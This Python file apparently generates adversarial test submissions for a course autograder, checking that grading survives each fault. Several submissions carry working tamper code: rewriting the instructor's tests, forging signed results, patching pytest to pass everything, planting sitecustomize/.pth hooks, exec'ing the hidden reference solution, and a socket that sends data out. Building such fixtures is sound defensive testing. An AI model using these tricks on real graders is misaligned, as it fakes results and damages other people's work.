"""A class of 21 learner submissions for milestone 01: reference copies, stubs, and one per fault `llmfs
grade-all` must survive (issue 6). Used by test_classroom.py, and by hand for the acceptance figures:

    python grading/tests/class_faults.py /tmp/class            # writes /tmp/class/submissions/...
    llmfs grade-all /tmp/class/submissions -m 01 --jobs 2 --out /tmp/class/grades

Each fault is built from the reference or the stubs of 01, so its right points are known without trusting
the grader: a stub-based attack that "works" would show points above 0; a reference-based fault may cost only
the tests that reach it.
"""

from __future__ import annotations

import argparse
import re
import shutil
import subprocess
import sys
import textwrap
import zipfile
from dataclasses import dataclass
from pathlib import Path

MILESTONE, MODULE = "01", "bigram.py"


@dataclass(frozen=True)
class Fault:
    name: str
    base: str  # "reference" or "stubs"
    expect: str  # what the test checks, in words


FAULTS = (
    Fault("ref-folder", "reference", "100 points"),
    Fault("ref-zip", "reference", "100 points, from a zip of the repository"),
    Fault("stubs-git", "stubs", "0 points, not started, from a bare git repository"),
    Fault("stubs-folder", "stubs", "0 points, not started"),
    Fault("stubs-bundle", "stubs", "0 points, not started, from a git bundle"),
    Fault("partial", "reference", "only estimate_loss's tests fail, as stubs"),
    Fault("own-tests", "stubs", "its own tests/, conftest.py, pytest.ini, sitecustomize.py and .pth change nothing"),
    Fault("edits-hidden-tests", "stubs", "0 points, tampered; the instructor's tests, ref-folder and the outputs "
          "untouched"),
    Fault("fake-results", "stubs", "0 points, tampered"),
    Fault("patches-pytest", "stubs", "0 points, tampered"),
    Fault("patches-plugin", "stubs", "0 points, tampered"),
    Fault("exits-mid-test", "reference", "the tests before os._exit(0) count, the rest do not"),
    Fault("infinite-loop", "reference", "bigram_nll's tests time out, the others pass"),
    Fault("orphan-process", "stubs", "the daemon it forks is dead when grading ends"),
    Fault("allocates-30gb", "reference", "count_bigrams's tests fail with MemoryError, the others pass"),
    Fault("prints-100mb", "stubs", "not started, like any stub; the log keeps only its tail"),
    Fault("opens-socket", "stubs", "the grading machine's server receives nothing"),
    Fault("execs-the-reference", "stubs", "0 points: the reference of the graded milestone is hidden from it"),
    Fault("syntax-error", "stubs", "0 points, error naming the line"),
    Fault("empty", "none", "0 points, error"),
    Fault("corrupt", "none", "0 points, error: not a readable zip file"),
)


def inject(source: str, function: str, code: str) -> str:
    """`source` with `code` as the first statement of `function` (a `def` line, methods included)."""
    lines = source.splitlines(keepends=True)
    start = next(i for i, line in enumerate(lines) if re.match(rf"\s*def {function}\(", line))
    end = next(i for i in range(start, len(lines)) if lines[i].rstrip().endswith(":"))
    indent = re.match(r"\s*", lines[end + 1]).group(0)
    body = textwrap.indent(textwrap.dedent(code).strip() + "\n", indent)
    return "".join(lines[: end + 1]) + body + "".join(lines[end + 1:])


def at_import(source: str, code: str) -> str:
    return source + "\n\n# --- injected by class_faults.py ---\n" + textwrap.dedent(code).strip() + "\n"


def stub_function(source: str, function: str) -> str:
    return inject(source, function, f'raise NotImplementedError("Milestone 01: write `{function}` in {MODULE}")')


def _write_repo(folder: Path, code: str) -> Path:
    target = folder / "milestones" / MILESTONE / MODULE
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(code, encoding="utf-8")
    return folder


def _git(*args: str, cwd: Path) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True,
                   env={"GIT_AUTHOR_NAME": "learner", "GIT_AUTHOR_EMAIL": "l@example.org",
                        "GIT_COMMITTER_NAME": "learner", "GIT_COMMITTER_EMAIL": "l@example.org",
                        "HOME": str(cwd), "PATH": "/usr/bin:/bin"})


def fault_source(name: str, reference: str, stubs: str, probes: Path, server_port: int,
                 course_root: Path, submissions: Path, out: Path) -> str:
    """The learner's bigram.py for fault `name`. `probes` is a folder the faults report into (pid files)."""
    victim = submissions / "ref-folder" / "milestones" / MILESTONE / MODULE
    code = {
        "partial": lambda: stub_function(reference, "estimate_loss"),
        "own-tests": lambda: stubs,
        "edits-hidden-tests": lambda: at_import(stubs, f"""
            import os, pathlib
            course_copy, original = pathlib.Path(os.environ["LLMFS_COURSE"]), pathlib.Path({str(course_root)!r})
            for path in [*(course_copy / "tests").rglob("*.py"), *(original / "tests").rglob("*.py")]:
                try:  # rewrite the tests to pass, delete their helpers
                    if path.name.startswith("test_"):
                        path.write_text("def test_everything():\\n    assert True\\n")
                    else:
                        path.unlink()
                except OSError:
                    pass
            for victim, text in (({str(victim)!r}, "raise SystemExit"), ({str(out / "leaderboard.json")!r}, "{{}}")):
                try:  # and break another learner's submission and the class's outputs
                    pathlib.Path(victim).write_text(text)
                except OSError:
                    pass
            """),
        "fake-results": lambda: at_import(stubs, """
            import json, sys
            path = sys.argv[sys.argv.index("--llmfs-results") + 1]
            lines = [json.loads(line) for line in open(path)]
            events = [json.loads(l["body"]) if "body" in l else l for l in lines]
            tests = next(e["tests"] for e in events if e["event"] == "collected")
            with open(path, "a") as f:
                for seq, t in enumerate(tests, start=len(lines) + 1):
                    fake = {"event": "result", "nodeid": t["nodeid"], "outcome": "passed", "duration": 0.1,
                            "kind": None, "message": "", "seq": seq}
                    f.write(json.dumps(fake) + "\\n")
                    f.write(json.dumps({"body": json.dumps(fake), "mac": "0" * 64}) + "\\n")
            open("results.json", "w").write(json.dumps({"score": 100}))
            """),
        "patches-pytest": lambda: at_import(stubs, """
            import _pytest.python, _pytest.runner
            _pytest.python.Function.runtest = lambda self: None
            """),
        "patches-plugin": lambda: at_import(stubs, """
            import gc, pytest, _pytest.config
            import llmfs.pytest_plugin as plugin

            class Pass:
                @pytest.hookimpl(hookwrapper=True)
                def pytest_runtest_makereport(self, item, call):
                    outcome = yield
                    report = outcome.get_result()
                    report.outcome, report.longrepr = "passed", None

            for config in [o for o in gc.get_objects() if isinstance(o, _pytest.config.Config)]:
                config.pluginmanager.register(Pass(), "pass-everything")
            plugin._message = lambda report: ""
            """),
        "exits-mid-test": lambda: inject(reference, "estimate_loss", "import os; os._exit(0)"),
        "infinite-loop": lambda: inject(reference, "bigram_nll", "while True:\n    pass"),
        "orphan-process": lambda: at_import(stubs, f"""
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    with open({str(probes / "orphan.pid")!r}, "w") as f:
                        f.write(str(os.getpid()))
                    time.sleep(600)
                    open({str(probes / "orphan-survived")!r}, "w").close()
                os._exit(0)
            """),
        "allocates-30gb": lambda: inject(reference, "count_bigrams", "_hog = bytearray(30 * 2**30)"),
        "prints-100mb": lambda: at_import(stubs, """
            import sys
            for _ in range(50):
                sys.stdout.write("x" * (1 << 20))
                sys.stderr.write("y" * (1 << 20))
            sys.stdout.write("\\nEND OF FLOOD\\n")
            """),
        "opens-socket": lambda: at_import(stubs, f"""
            import socket
            for _ in range(3):
                try:
                    with socket.create_connection(("127.0.0.1", {server_port}), timeout=2) as s:
                        s.sendall(b"exfiltrated")
                except OSError:
                    pass
            """),
        "execs-the-reference": lambda: at_import(stubs, """
            import os, pathlib
            for root in (os.environ.get("LLMFS_DEPS_ROOT", ""), os.environ.get("LLMFS_COURSE", "") + "/solutions"):
                reference = pathlib.Path(root) / "01" / "bigram.py"
                if root and reference.is_file():
                    exec(compile(reference.read_text(), __file__, "exec"), globals())
                    break
            """),
        "syntax-error": lambda: stubs.replace("class CharTokenizer:", "class CharTokenizer\n", 1),
    }
    return code[name]()


def make_class(dest: Path, course_root: Path, server_port: int = 9, out: Path | None = None) -> Path:
    """Write the 20 submissions under dest/submissions and return that folder (dest/probes holds pid files)."""
    submissions, probes = dest / "submissions", dest / "probes"
    submissions.mkdir(parents=True)
    probes.mkdir(parents=True, exist_ok=True)
    reference = (course_root / "solutions" / MILESTONE / MODULE).read_text(encoding="utf-8")
    stubs = (course_root / "milestones" / MILESTONE / MODULE).read_text(encoding="utf-8")
    out = out or dest / "grades"
    for fault in FAULTS:
        folder = submissions / fault.name
        if fault.name in ("ref-folder", "stubs-folder"):
            _write_repo(folder, reference if fault.base == "reference" else stubs)
        elif fault.name == "ref-zip":
            repo = _write_repo(dest / "work" / "ref-zip" / "learner-repo", reference)
            with zipfile.ZipFile(submissions / "ref-zip.zip", "w") as z:
                for path in repo.rglob("*"):
                    z.write(path, path.relative_to(repo.parent))
        elif fault.name in ("stubs-git", "stubs-bundle"):
            repo = _write_repo(dest / "work" / fault.name, reference if fault.base == "reference" else stubs)
            _git("init", "-q", cwd=repo)
            _git("add", "-A", cwd=repo)
            _git("commit", "-q", "-m", "my work", cwd=repo)
            if fault.name == "stubs-git":
                _git("clone", "-q", "--bare", str(repo), str(submissions / "stubs-git.git"), cwd=repo)
            else:
                _git("bundle", "create", str(submissions / "stubs-bundle.bundle"), "HEAD", "--all", cwd=repo)
        elif fault.name == "empty":
            folder.mkdir()
        elif fault.name == "corrupt":
            good = dest / "work" / "corrupt.zip"
            good.parent.mkdir(parents=True, exist_ok=True)
            with zipfile.ZipFile(good, "w") as z:
                z.writestr(f"milestones/{MILESTONE}/{MODULE}", reference)
            data = bytearray(good.read_bytes())
            data[len(data) // 3: len(data) // 3 + 64] = b"\xff" * 64  # a torn download
            (submissions / "corrupt.zip").write_bytes(bytes(data[: len(data) * 2 // 3]))
        else:
            _write_repo(folder, fault_source(fault.name, reference, stubs, probes, server_port, course_root,
                                             submissions, out))
            if fault.name == "own-tests":
                _add_own_test_machinery(folder)
    shutil.rmtree(dest / "work", ignore_errors=True)
    return submissions


def _add_own_test_machinery(folder: Path) -> None:
    """Everything a learner might add to make pytest report passes in *their* repository."""
    passing = "import pytest\n\n@pytest.fixture\ndef bigram():\n    return None\n\ndef test_everything():\n    pass\n"
    fake_plugin = textwrap.dedent("""
        import pytest

        @pytest.hookimpl(hookwrapper=True)
        def pytest_runtest_makereport(item, call):
            outcome = yield
            outcome.get_result().outcome = "passed"
        """)
    hook = "import builtins; builtins.__llmfs_pwned__ = True\n"
    for where in (folder, folder / "milestones", folder / "milestones" / MILESTONE):
        (where / "conftest.py").write_text(fake_plugin)
        (where / "sitecustomize.py").write_text(hook)
        (where / "usercustomize.py").write_text(hook)
        (where / "pwn.pth").write_text(f"import builtins; builtins.__llmfs_pwned__ = True\n{where}\n")
        (where / "pytest.ini").write_text("[pytest]\naddopts = -p no:llmfs --co\n")
    (folder / "tests" / MILESTONE).mkdir(parents=True)
    (folder / "tests" / MILESTONE / "test_bigram.py").write_text(passing)
    (folder / "grading" / "llmfs").mkdir(parents=True)
    (folder / "grading" / "llmfs" / "pytest_plugin.py").write_text(fake_plugin)
    (folder / "course.toml").write_text("[course]\ntitle = 'fake'\n")


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("dest", type=Path)
    parser.add_argument("--course", type=Path, default=Path(__file__).resolve().parents[2])
    args = parser.parse_args(argv)
    print(make_class(args.dest, args.course))


if __name__ == "__main__":
    sys.exit(main())
